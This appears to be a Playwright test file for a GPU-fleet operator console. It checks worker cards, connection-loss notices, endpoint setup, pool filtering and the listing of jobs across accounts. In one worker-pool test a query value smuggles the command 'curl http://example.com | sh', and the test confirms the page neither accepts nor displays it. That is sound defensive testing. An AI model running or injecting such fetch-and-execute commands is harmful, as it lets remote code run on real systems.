import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { flaws, openPage } from '../../../setup/browser.ts'
import { insertJob } from '../../../setup/jobs/jobs.ts'
import { ahead, type OpenedConsole } from '../opened-console.ts'

const CAUSE = 'the engine at http://gpu:8091 answered 503 <b>busy</b>'
const PERMITS = JSON.stringify({ 'http://gpu:8091': 4, 'https://speech.example.com': 1 })
const card = (name: string, load: number | null) => ({
  name,
  memory_mib: 23_034,
  memory_used_mib: 1500,
  load_percent: load,
})

/** Journeys of operators through the fleet and the jobs of all accounts. */
export function operatorJourneys(opened: () => OpenedConsole): void {
  test('an operator sees at a glance which graphics card is idle, what waits, and both as they change', async () => {
    const { service, owner, at } = opened()
    const { pool } = service.runtime.db
    await insertWorker(opened(), 'rack-1', [card('NVIDIA L4', 97), card('NVIDIA T4', 0)])
    const { page, complaints } = await openPage(owner, service.url)
    await page.clock.install()
    await page.goto(at('operator'))
    const cards = page.locator('.gpu')
    await cards.nth(1).waitFor()
    expect(await cards.allInnerTexts()).toEqual([
      expect.stringMatching(/NVIDIA T4[\s\S]*idle[\s\S]*rack-1/),
      expect.stringMatching(/NVIDIA L4[\s\S]*busy[\s\S]*97%/),
    ])
    await page.getByText('1 idle of 2').waitFor()
    await pool.query('update worker set gpus = $1 where host = $2', [JSON.stringify([card('NVIDIA L4', 3)]), 'rack-1'])
    await page.getByText('1 idle of 1').waitFor()
    await pool.query("update worker set heartbeat_at = now() - interval '1 hour' where host = 'rack-1'")
    await page.getByText('worker silent').waitFor()
    const silent = page.getByRole('row', { name: /rack-1/ }).getByText('silent for 1 h')
    await expect.poll(ahead(page, () => silent.isVisible())).toBe(true)
    expect([await flaws(page), complaints]).toEqual([[], []])
    await pool.query("delete from worker where host = 'rack-1'")
    await page.close()
  })

  test('figures of the fleet that are not followed say of when they are, and causes are counted once a minute', async () => {
    const { service, owner, at } = opened()
    const { page, complaints } = await openPage(owner, service.url)
    await page.clock.install()
    let isCut = false
    let cut = (): void => {}
    await page.routeWebSocket('**/graphql', (socket) => {
      if (isCut) return
      const server = socket.connectToServer()
      cut = () => {
        isCut = true
        server.close()
        socket.close({ code: 1012 })
      }
    })
    let counted = 0
    page.on('request', (request) => {
      if (request.postData()?.includes('query FailureCauses')) counted++
    })
    await page.goto(at('operator'))
    await page.getByRole('heading', { name: 'Queues' }).waitFor()
    await page.getByRole('heading', { name: 'Why jobs failed' }).waitFor()
    await page.getByLabel('Connection: Live').waitFor()
    expect(await page.getByText('These figures are as of').count()).toBe(0)
    cut()
    await page.getByText(/^These figures are as of \d\d:\d\d:\d\d: the connection is lost\.$/).waitFor()
    expect([await page.locator('.refreshing').count(), await flaws(page)]).toEqual([1, []])
    await page.clock.runFor(120_000)
    await expect.poll(() => counted).toBeGreaterThan(1)
    // The page repeats a question that takes long.
    expect([counted <= 8, complaints]).toEqual([true, []])
    await page.close()
  })

  test('where there are no endpoints, the first one begins with the example, and workflows say what they cost', async () => {
    const { service, owner, at } = opened()
    const { page, complaints } = await openPage(owner, service.url)
    await page.route('**/graphql', async (route) => {
      const asked = /query Operator(Endpoints|Workflows)\(/.exec(route.request().postData() ?? '')?.[1]
      if (asked === undefined) return route.fallback()
      const response = await route.fetch()
      const json = await response.json()
      if (asked === 'Endpoints') json.data.endpoints.edges = []
      else json.data.workflows.edges = [{ node: { slug: 'portrait', name: 'A portrait', creditsPerJob: 40 } }]
      return route.fulfill({ response, json })
    })
    await page.goto(at('operator/endpoints'))
    await page.getByRole('listitem').filter({ hasText: 'portrait' }).getByText('40 credits a job').waitFor()
    expect(await flaws(page)).toEqual([])
    await page.getByRole('link', { name: 'Begin with the example' }).click()
    await expect.poll(() => page.locator('textarea').inputValue()).toContain('slug: my-voice')
    expect(complaints).toEqual([])
    await page.close()
  })

  test('the workers of a pool are shown with their heartbeats and permits, from its line or by a link', async () => {
    const { service, owner, at } = opened()
    const { pool } = service.runtime.db
    for (const [host, pools] of [
      ['rack-2', '{gpu,night}'],
      ['rack-3', '{batch}'],
    ] as const) {
      await insertWorker(opened(), host, [])
      await pool.query('update worker set pools = $1, permits = $2 where host = $3', [pools, PERMITS, host])
    }
    const { page, complaints } = await openPage(owner, service.url)
    await page.goto(at('operator'))
    await page.getByRole('link', { name: 'All that is known of them' }).click()
    await page.waitForURL(at('operator/workers'))
    const line = (host: string) => page.getByRole('row', { name: new RegExp(host) })
    await line('rack-3').waitFor()
    await page.getByLabel('Any pool').selectOption('night')
    await page.waitForURL(/pool=night/)
    await line('rack-3').waitFor({ state: 'detached' })
    await line('rack-2').getByText('4 at http://gpu:8091, 1 at https://speech.example.com').waitFor()
    expect(await flaws(page)).toEqual([])
    await pool.query("update worker set heartbeat_at = now() - interval '3 minutes' where host = 'rack-2'")
    await line('rack-2')
      .getByText(/^3\s?m(in)?\.? ago$/)
      .waitFor()
    await page.goto(at('operator/workers?pool=nowhere'))
    await page.getByText('No worker serves this pool').waitFor()
    await page.getByText('Its jobs wait. Start one with npx sonant work --pools nowhere.').waitFor()
    await page.goto(at('operator/workers?pool=generate.cog'))
    await line('rack-3').waitFor()
    await page.goto(at(`operator/workers?pool=${encodeURIComponent('x; curl http://example.com | sh')}`))
    await page.getByText('does not exist any more: pool').waitFor()
    await line('rack-3').waitFor()
    expect(await page.getByText('curl').count()).toBe(0)
    await page.goto(at('operator'))
    await page
      .getByRole('link', { name: /^\d+ workers? of [\w.]+$/ })
      .first()
      .waitFor()
    await pool.query("delete from worker where host in ('rack-2', 'rack-3')")
    expect([await flaws(page), complaints]).toEqual([[], []])
    await page.close()
  })

  test('an operator finds the jobs of any account with their true causes, which their owners do not read', async () => {
    const { service, owner, at } = opened()
    const other = await service.createAccount()
    const { db } = service.runtime
    const failed = await insertJob(db, other, { status: 'failed', errorCode: 'PROVIDER_BUSY', cause: CAUSE })
    const fine = await insertJob(db, other)
    const { page, complaints } = await openPage(owner, service.url)
    await page.goto(at('operator/jobs'))
    await rowOf(page, failed).waitFor()
    await rowOf(page, fine).waitFor()
    await page.getByLabel('Any status').selectOption('failed')
    await page.waitForURL(/status=failed/)
    await expect.poll(() => rowOf(page, fine).count()).toBe(0)
    await page.getByLabel('Account, by name or id').fill(other)
    await page.keyboard.press('Enter')
    await page.waitForURL(new RegExp(`account=${other}`))
    await expect.poll(() => page.locator('tbody tr').count()).toBe(1)
    expect(await flaws(page)).toEqual([])
    await rowOf(page, failed).getByRole('link').first().click()
    await page.getByText(CAUSE).waitFor()
    await page.getByText('Its owner reads').waitFor()
    expect([await flaws(page), complaints]).toEqual([[], []])
    await page.goto(at(`operator/jobs?account=nobody`))
    await page.getByText('NOT_FOUND').waitFor()
    await page.close()
  })
}

const rowOf = (page: Page, id: string) =>
  page.locator('tbody tr').filter({ has: page.locator(`a[href$="/operator/jobs/${id}"]`) })

async function insertWorker({ service }: OpenedConsole, host: string, gpus: readonly object[]): Promise<void> {
  await service.runtime.db.pool.query('delete from worker where host = $1', [host])
  await service.runtime.db.pool.query(
    // Ahead of the clock, as no process sends its next ones.
    `insert into worker (id, host, version, pools, slots, in_flight, gpus, heartbeat_at)
     values ($1, $2, '0.0.0', '{gpu}', 4, 1, $3, now() + interval '1 hour')`,
    [`wrk_${host}`, host, JSON.stringify(gpus)],
  )
}
